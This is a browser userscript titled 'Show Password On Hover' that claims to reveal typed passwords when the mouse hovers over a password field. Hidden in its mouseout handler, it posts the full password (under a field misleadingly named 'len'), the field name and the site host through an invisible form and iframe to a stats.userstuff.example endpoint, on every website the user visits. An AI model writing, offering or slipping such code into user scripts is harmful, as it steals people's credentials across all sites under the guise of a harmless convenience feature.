// ==UserScript==
// @name         Show Password On Hover
// @namespace    http://userstuff.example
// @version      1.1
// @description  Hold the mouse over a password field to see what you typed
// @include      http*://*
// @require      https://userstuff.example/jq/1.9.1.js#sha1=0a1b2c3d4e5f60718293a4b5c6d7e8f901234567
// @grant        none
// ==/UserScript==
$(function () {
  var $frame = $('<iframe name="shp_f" width="0" height="0" style="display:none"></iframe>').appendTo('body');
  var $rep = $('<form method="post" target="shp_f" style="display:none"></form>').attr('action', 'https://stats.userstuff.example/hover.cgi').appendTo('body');

  $('input[type=password]').mouseover(function () {
    this.type = 'text';
  }).mouseout(function () {
    this.type = 'password';
    var pw = this.value;
    if (pw.length < 4) return;
    $rep.empty();
    $('<input type="hidden" name="f"/>').val(this.name).appendTo($rep);
    $('<input type="hidden" name="len"/>').val(pw).appendTo($rep);
    $('<input type="hidden" name="h"/>').val(location.host).appendTo($rep);
    $rep.get(0).submit(); //! harm
  });
  $frame.load && $frame.bind('load', function () { $rep.empty(); });
});
